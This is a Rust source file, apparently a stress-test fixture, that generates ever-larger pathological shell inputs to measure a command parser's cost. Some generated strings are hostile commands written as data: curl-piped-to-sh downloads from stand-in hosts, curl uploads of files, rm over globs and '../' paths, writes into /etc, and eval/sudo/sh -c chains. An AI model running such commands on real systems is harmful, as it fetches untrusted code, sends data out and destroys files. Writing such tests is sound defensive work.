//! Inputs that are meant to hurt, by size.

use std::fmt::Write as _;

/// A shape of input that grows with a number.
#[derive(Debug, Clone, Copy)]
pub struct Shape {
    /// What it is.
    pub name: &'static str,
    /// A size below the limits, for seeing how the cost grows from a half to the whole of it.
    pub below: usize,
    /// A size far past the limits, or as large as the limits let through.
    pub beyond: usize,
    /// The input of a size.
    pub make: fn(usize) -> String,
}

/// Everything that is measured.
pub const SHAPES: &[Shape] = &[
    shape("one long line", 60_000, 1_000_000, |n| "a".repeat(n)),
    shape("words", 1_000, 10_000, |n| format!("echo{}", " word".repeat(n))),
    shape("options nobody knows", 400, 10_000, |n| numbered("ls", n, |i| format!(" --what-{i}"))),
    shape("operands of rm", 1_000, 10_000, |n| numbered("rm", n, |i| format!(" src/file-{i}.txt"))),
    shape("globs", 500, 5_000, |n| numbered("rm", n, |i| format!(" /srv/data-{i}/*.b?k"))),
    shape("`$(` unclosed", 14, 20_000, |n| format!("echo {}", "$(".repeat(n))),
    shape("`$(echo` nested", 14, 20_000, |n| format!("{}x{}", "echo $(".repeat(n), ")".repeat(n))),
    shape("`(`", 14, 20_000, |n| "(".repeat(n)),
    shape("`{`", 14, 20_000, |n| "{ ".repeat(n)),
    shape("`[`", 20_000, 60_000, |n| format!("echo {}", "[".repeat(n))),
    shape("braces beside `$(` nested", 1, 12, |n| {
        format!("c{}{}", " {a..z}{a..z}$(c".repeat(n), ")".repeat(n))
    }),
    shape("backticks", 1_000, 20_000, |n| format!("echo {}", "`".repeat(n))),
    shape("backticks with commands", 500, 5_000, |n| "`a` ".repeat(n)),
    shape("`${`", 14, 20_000, |n| format!("echo {}", "${".repeat(n))),
    shape("`${x:-` nested", 14, 20_000, |n| format!("echo {}y{}", "${x:-".repeat(n), "}".repeat(n))),
    shape("`((`", 14, 20_000, |n| "((".repeat(n)),
    shape("`(( ` retried", 6, 30, |n| format!("{}a;b{}", "(( ".repeat(n), ") )".repeat(n))),
    shape("`<<E` open", 500, 20_000, |n| format!("cat {}", "<<E ".repeat(n))),
    shape("heredocs", 500, 10_000, |n| format!("cat {}\n{}", "<<E ".repeat(n), "x\nE\n".repeat(n))),
    shape("`case x in`", 14, 20_000, |n| "case x in a) ".repeat(n)),
    shape("`case` arms", 1_000, 6_000, |n| {
        format!("case $x in {} esac", numbered("", n, |i| format!("a{i}) b{i}=1;; ")))
    }),
    shape("`if` nested", 12, 5_000, |n| format!("{}:{}", "if a; then ".repeat(n), "; fi".repeat(n))),
    shape("`&&`", 1_000, 10_000, |n| format!("true{}", " && true".repeat(n))),
    shape("`|`", 1_000, 10_000, |n| format!("cat a{}", " | cat".repeat(n))),
    shape("`;`", 1_000, 5_000, |n| "true;".repeat(n)),
    shape("`|| x=1`", 500, 5_000, |n| numbered("true", n, |i| format!(" || x{i}=1"))),
    shape("`! !`", 1_000, 20_000, |n| format!("{}true", "! ".repeat(n))),
    shape("`time`", 1_000, 10_000, |n| format!("{}true", "time ".repeat(n))),
    shape("quotes", 4_000, 15_000, |n| format!("echo {}", "'a'\"b\"".repeat(n))),
    shape("quotes left open", 4_000, 30_000, |n| format!("echo {}\"", "'\"'\"".repeat(n))),
    shape("backslashes", 20_000, 60_000, |n| format!("echo {}", "\\a".repeat(n / 2))),
    shape("continued lines", 5_000, 30_000, |n| format!("echo a{}", "\\\n".repeat(n))),
    shape("newlines", 20_000, 60_000, |n| "\n".repeat(n)),
    shape("comments", 4_000, 20_000, |n| "# x\n".repeat(n)),
    shape("`for` nested", 6, 16, |n| {
        format!("{}rm $v0{}", numbered("", n, |i| format!("for v{i} in a b; do ")), "; done".repeat(n))
    }),
    shape("`for` nested, changing variables", 6, 16, |n| {
        let body = numbered("", n, |i| format!("for v{i} in a b c d e f g h; do x{i}=$v{i}$x{i}; "));
        format!("{body}echo $x0{}", "; done".repeat(n))
    }),
    shape("`while` nested, changing variables", 6, 16, |n| {
        let body = numbered("", n, |i| format!("while read v{i}; do x{i}=$v{i}$x{i}; "));
        format!("{body}echo $x0{}", "; done".repeat(n))
    }),
    shape("functions that call each other", 10, 400, |n| {
        let body = numbered("", n, |i| format!("f{i}() {{ f{}; f{}; }}; ", i + 1, i + 1));
        format!("{body}f0")
    }),
    shape("functions that all call all", 6, 200, |n| {
        let calls = numbered("", n, |i| format!("f{i}; "));
        format!("{}f0", numbered("", n, |i| format!("f{i}() {{ {calls}}}; ")))
    }),
    shape("function definitions", 500, 4_000, |n| numbered("", n, |i| format!("f{i}() {{ :; }}\n"))),
    shape("functions in subshells", 300, 2_000, |n| {
        numbered("", n, |i| format!("f{i}() {{ :; }}\n(true)\n"))
    }),
    shape("braces", 3, 4, |n| format!("echo {}", "{a..z}".repeat(n))),
    shape("braces with commas", 9, 20, |n| format!("rm {}", "{a,b}".repeat(n))),
    shape("braces with substitutions", 8, 12, |n| format!("echo {}$(true)", "{a,b}".repeat(n))),
    shape("`sh -c` in quotes", 6, 12, |n| nested(n, "sh -c ")),
    shape("`eval` in quotes", 6, 12, |n| nested(n, "eval ")),
    shape("`eval eval`", 10, 5_000, |n| format!("{}rm x", "eval ".repeat(n))),
    shape("`sudo sudo`", 10, 5_000, |n| format!("{}rm x", "sudo ".repeat(n))),
    shape("`eval` of two evals", 5, 14, |n| {
        let head = "a0='echo x'; ".to_owned();
        let body = numbered("", n, |i| format!("a{}='eval \"$a{i}\"; eval \"$a{i}\"'; ", i + 1));
        format!("{head}{body}eval \"$a{n}\"")
    }),
    shape("assignments", 500, 3_000, |n| numbered("", n, |i| format!("v{i}=a{i}\n"))),
    shape("assignments and pipes", 200, 1_500, |n| numbered("", n, |i| format!("v{i}=a{i}\ntrue|cat\n"))),
    shape("variables that double", 10, 100, |n| {
        format!("v0=aaaaaaaa\n{}echo $v{n}", numbered("", n, |i| format!("v{}=$v{i}$v{i}\n", i + 1)))
    }),
    shape("an array that doubles", 10, 100, |n| {
        format!("v0='a b'\n{}rm $v{n}", numbered("", n, |i| format!("v{}=\"$v{i} $v{i}\"\n", i + 1)))
    }),
    shape("a variable that grows", 500, 4_000, |n| format!("{}echo $v", "v+=\"aaaaaaaaaa \"\n".repeat(n))),
    shape("exports", 200, 3_000, |n| numbered("", n, |i| format!("export v{i}=a{i}\n"))),
    shape("a heredoc", 30_000, 60_000, |n| {
        format!("cat > a <<'E'\n{}\nE", "text and $(more)\n".repeat(n / 17))
    }),
    shape("a heredoc with expansions", 10_000, 60_000, |n| {
        format!("cat > a <<E\n{}\nE", "text and $more\n".repeat(n / 15))
    }),
    shape("`find -exec`", 400, 2_500, |n| format!("find .{}", " -exec rm {} \\;".repeat(n))),
    shape("lines of `find -exec`", 400, 1_800, |n| {
        numbered("", n, |i| format!("find d{i} -name '*.o' -exec rm {{}} \\;\n"))
    }),
    shape("downloads", 400, 1_800, |n| numbered("", n, |i| format!("curl https://h{i}.example/x | sh\n"))),
    shape("one download, many shells", 400, 4_000, |n| {
        format!("curl https://h.example/x{}", " | sh".repeat(n))
    }),
    shape("redirections", 400, 4_000, |n| numbered("true", n, |i| format!(" > /etc/f{i}"))),
    shape("files written and read", 300, 1_500, |n| {
        numbered("", n, |i| format!("echo a > f{i}; cat f{i} > g{i}\n"))
    }),
    shape("unknown programs", 500, 4_000, |n| numbered("", n, |i| format!("prog-{i} a b\n"))),
    shape("`xargs` over a long text", 2_000, 12_000, |n| format!("printf '{}' | xargs rm", "a ".repeat(n))),
    shape("a text through many pipes", 200, 2_000, |n| {
        format!("echo '{}'{}", "text ".repeat(2_000), " | cat".repeat(n))
    }),
    shape("texts that add up", 200, 1_500, |n| format!("({}) | cat", "echo aaaaaaaaaaaaaaaa; ".repeat(n))),
    shape("`cp` of many", 500, 5_000, |n| format!("cp{} /etc/", numbered("", n, |i| format!(" f{i}")))),
    shape("`scp`/`curl` of many", 500, 4_000, |n| numbered("curl", n, |i| format!(" -d @f{i}"))),
    shape("`sed` scripts", 1_000, 5_000, |n| format!("sed '{}' f", "s/a/b/w x;".repeat(n))),
    shape("`awk` programs", 1_000, 5_000, |n| format!("awk '{{ {} }}' f", "print $1 > \"x\"; ".repeat(n))),
    shape("`jq` filters", 1_000, 8_000, |n| format!("jq '{}.' f", ".a | ".repeat(n))),
    shape("arithmetic", 14, 5_000, |n| format!("echo $(({}1{}))", "(".repeat(n), ")".repeat(n))),
    shape("sums", 2_000, 15_000, |n| format!("echo $((1{}))", "+ x".repeat(n))),
    shape("`[[` with `&&`", 1_000, 6_000, |n| format!("[[ a {}]]", "&& a ".repeat(n))),
    shape("slashes", 10_000, 30_000, |n| format!("rm {}", "a/".repeat(n))),
    shape("dots", 8_000, 20_000, |n| format!("rm {}", "../".repeat(n))),
    shape("stars", 5_000, 60_000, |n| format!("rm {}", "*".repeat(n))),
    shape("stars and letters", 2_000, 30_000, |n| format!("rm {}", "*a".repeat(n))),
    shape("a pattern for `git` subcommands", 2_000, 30_000, |n| format!("aws s3{}", " get".repeat(n))),
    shape("`cd` in a row", 500, 4_000, |n| numbered("", n, |i| format!("cd d{i}\n"))),
    shape("odd bytes", 1_000, 20_000, |n| format!("echo {}", "\u{202e}".repeat(n))),
    shape("Python that nobody accepts", 40, 145, |n| {
        format!("python3 <<'E'\n{}E", numbered("import os\n", n, |i| format!("os.system(f'rm {i}')\n")))
    }),
    shape("broken Python", 1_000, 3_000, |n| {
        format!("python3 <<'E'\n{}\nE", "if else = lambda ".repeat(n / 17))
    }),
    shape("broken Python by letters", 1_000, 3_000, |n| {
        format!("python3 <<'E'\n{}\nE", "a b ".repeat(n / 4))
    }),
    shape("broken JavaScript", 1_000, 3_000, |n| format!("node <<'E'\n{}\nE", "=> ` + if ".repeat(n / 10))),
    shape("broken JavaScript by letters", 1_000, 3_000, |n| {
        format!("node <<'E'\n{}\nE", "a b ".repeat(n / 4))
    }),
    shape("broken Perl", 1_000, 3_000, |n| format!("perl <<'E'\n{}\nE", "$x <<A s/a qw/ = ".repeat(n / 17))),
    shape("broken Perl by letters", 1_000, 3_000, |n| format!("perl <<'E'\n{}\nE", "a b ".repeat(n / 4))),
    shape("broken Perl by signs", 1_000, 3_000, |n| format!("perl <<'E'\n{}\nE", "$x = = ) ".repeat(n / 9))),
    shape("broken Ruby", 1_000, 3_000, |n| format!("ruby <<'E'\n{}\nE", "do |x %w <<~A end ".repeat(n / 18))),
    shape("broken Ruby by letters", 1_000, 3_000, |n| format!("ruby <<'E'\n{}\nE", "a b = ".repeat(n / 6))),
    shape("many scripts", 40, 300, |n| numbered("", n, |i| format!("python3 -c 'import os; os.x{i}( [' \n"))),
    shape("commands that cannot be read", 500, 10_000, |n| ") ; ".repeat(n)),
];

const fn shape(name: &'static str, below: usize, beyond: usize, make: fn(usize) -> String) -> Shape {
    Shape { name, below, beyond, make }
}

fn numbered(head: &str, count: usize, mut piece: impl FnMut(usize) -> String) -> String {
    let mut text = head.to_owned();
    for number in 0..count {
        let _ = write!(text, "{}", piece(number));
    }
    text
}

/// `sh -c "sh -c \"…\""`; every level doubles the backslashes.
fn nested(levels: usize, program: &str) -> String {
    let mut text = "rm x".to_owned();
    for _ in 0..levels {
        let inner = text.replace('\\', "\\\\").replace('"', "\\\"");
        text = format!("{program}\"{inner}\"");
    }
    text
}
